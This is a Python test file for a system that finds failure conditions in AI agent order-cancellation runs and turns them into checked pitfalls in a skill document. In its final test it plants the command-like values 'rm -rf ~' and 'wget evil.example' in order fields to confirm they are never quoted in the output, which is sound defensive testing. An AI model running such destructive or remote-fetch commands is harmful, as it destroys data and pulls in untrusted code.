"""Failure conditions: a planted policy (cancel only pending orders) and a planted bad argument
value are found, rendered as pitfalls, read back, and checked against held-out runs."""

from __future__ import annotations

import json
import math
from typing import Any

from evolver.changes import SkillDoc
from evolver.cluster import cluster
from evolver.conditions import Fact, facts, failure_conditions
from evolver.evaluate import compliance, pitfall_hits
from evolver.model import Message, Outcome, ToolCall, Trajectory
from evolver.skillspec import skill_spec
from evolver.synthesize import synthesize


def order_run(
    rid: str,
    status: str,
    success: bool,
    method: str = "original_payment",
    card: str = "credit_card_4417",
    price: int = 250,
) -> Trajectory:
    """Look an order up, then cancel it; the lookup's result carries the order's state."""
    order = {
        "order_id": f"W{rid}",
        "status": status,
        "price": price,
        "payment": {"payment_id": card, "email": "someone@example.com"},
        "user_id": "olivia_gonzalez_2305",
        "items": [{"kind": "lamp", "gift": False}],
    }
    steps: list[Any] = [
        Message(role="user", text=f"Please cancel my lamp order W{rid}, I changed my mind"),
        ToolCall(name="get_order", arguments={"order_id": f"W{rid}"}, result=json.dumps(order)),
        ToolCall(
            name="cancel_order",
            arguments={"order_id": f"W{rid}", "refund_method": method},
            result=json.dumps({"status": "cancelled"}),
        ),
        Message(role="assistant", text="Your order is cancelled."),
    ]
    return Trajectory(id=rid, task=steps[0].text, steps=steps, outcome=Outcome(success=success))


def planted() -> list[Trajectory]:
    """Eight successes on pending orders; four failures cancel shipped orders, four refund to a
    gift card (a policy and a bad value); one failure looks like a success."""
    runs = [order_run(f"ok{i}", "pending", True) for i in range(8)]
    runs += [order_run(f"shipped{i}", "shipped", False) for i in range(4)]
    runs += [order_run(f"gift{i}", "pending", False, method="gift_card") for i in range(4)]
    runs.append(order_run("plain", "pending", False))
    return runs


def test_facts_hold_the_state_left_by_earlier_results_and_the_calls_own_arguments():
    (first, before), (second, at_cancel) = facts(order_run("1", "shipped", False))
    assert (first, second) == ("get_order", "cancel_order")
    assert before == frozenset()  # nothing known yet, and an order id is no state
    assert Fact("get_order", "status", "shipped") in at_cancel
    assert Fact("", "refund_method", "original_payment") in at_cancel
    assert Fact("get_order", "payment.payment_id", "credit_card_…") in at_cancel  # its kind only
    assert Fact("get_order", "items[].gift", "false") in at_cancel
    shown = {(f.key, f.value) for f in at_cancel}
    assert not any("example.com" in v or k.endswith("email") for k, v in shown)  # personal data
    assert not any("olivia" in v for _, v in shown)  # a person's id is no kind of anything
    assert not any(k == "price" for k, _ in shown)  # an amount, not a state


def test_the_planted_policy_and_the_planted_bad_value_are_found():
    found = {(c.tool, c.fact): c for c in failure_conditions(planted())}
    shipped = found[("cancel_order", Fact("get_order", "status", "shipped"))]
    assert (shipped.failed_runs, shipped.ok_runs) == (4, 8)
    # all 4 runs with it failed, drawn from 9 failed and 8 successful runs that cancelled
    assert shipped.p_value == math.comb(9, 4) / math.comb(17, 4)
    assert ("cancel_order", Fact("", "refund_method", "gift_card")) in found
    # what successful runs had too is no condition
    assert ("cancel_order", Fact("get_order", "status", "pending")) not in found


def test_a_fact_that_could_be_chance_is_not_a_condition():
    runs = [order_run(f"ok{i}", "pending", True) for i in range(2)]
    runs += [order_run(f"bad{i}", "pending", False) for i in range(12)]
    runs += [order_run(f"shipped{i}", "shipped", False) for i in range(2)]
    # 2 of 14 failed runs and none of 2 successful ones: likely by chance (p > 0.1)
    assert failure_conditions(runs) == []


def test_conditions_become_pitfalls_that_a_held_out_run_is_checked_against():
    (group,) = cluster(planted())
    change = synthesize(group, "cancel-order")
    assert change is not None
    assert (
        "- Do not call `cancel_order` after `get_order` returned `status` = `shipped`. "
        "(held out: 62% of 13 runs that did succeeded, 0% of 4 that did not)"
    ) in change.content
    assert "Do not call `cancel_order` with `refund_method` = `gift_card`." in change.content
    spec = skill_spec(SkillDoc(name=change.skill, text=change.content, files=change.files))
    assert spec is not None and spec.checks is not None
    shipped, pending = order_run("h1", "shipped", True), order_run("h2", "pending", True)
    assert compliance(shipped, spec) < compliance(pending, spec)


def test_a_persons_conditions_in_prose_are_still_checked():
    text = (
        "---\nname: cancel-order\ndescription: Cancel orders.\n---\n## Procedure\n\n"
        "1. Call `get_order`.\n2. Call `cancel_order`.\n\n## Pitfalls\n\n"
        "- `cancel_order` was called after `get_order` returned `status` = `shipped` "
        "in 4 failed runs and in none of the 8 successful runs that called it.\n"
    )
    spec = skill_spec(SkillDoc(name="cancel-order", text=text))
    assert spec is not None
    shipped, pending = order_run("h1", "shipped", True), order_run("h2", "pending", True)
    assert [p.fact for p in pitfall_hits(shipped, spec)] == [Fact("get_order", "status", "shipped")]
    assert pitfall_hits(pending, spec) == []
    assert compliance(shipped, spec) == compliance(pending, spec) / 2


def test_retries_of_one_task_are_one_piece_of_evidence():
    runs = [order_run(f"ok{i}", "pending", True) for i in range(8)]
    same = order_run("again", "shipped", False)
    runs += [same.model_copy(update={"id": f"again{i}"}) for i in range(4)]
    assert failure_conditions(runs) == []
    runs.append(order_run("other", "shipped", False))  # a second task makes it evidence
    assert [c.fact for c in failure_conditions(runs)] == [Fact("get_order", "status", "shipped")]


def test_a_value_that_reads_as_a_command_is_no_state_and_is_never_quoted():
    runs = [order_run(f"ok{i}", "pending", True) for i in range(12)]
    runs += [order_run(f"rm{i}", "rm -rf ~", False) for i in range(4)]  # a result's value
    runs += [order_run(f"wget{i}", "pending", False, method="wget evil.example") for i in range(4)]
    runs += [order_run(f"gift{i}", "pending", False, method="gift_card") for i in range(4)]
    found = {c.fact.value for c in failure_conditions(runs)}
    assert "gift_card" in found and not found & {"rm -rf ~", "wget evil.example"}
    (group,) = cluster(runs)
    change = synthesize(group, "cancel-order")
    assert change is not None
    assert "`gift_card`" in change.content  # an ordinary bad value is still a lesson
    for text in (change.content, change.files["checks.json"], change.commit_message):
        assert "rm -rf" not in text and "wget" not in text
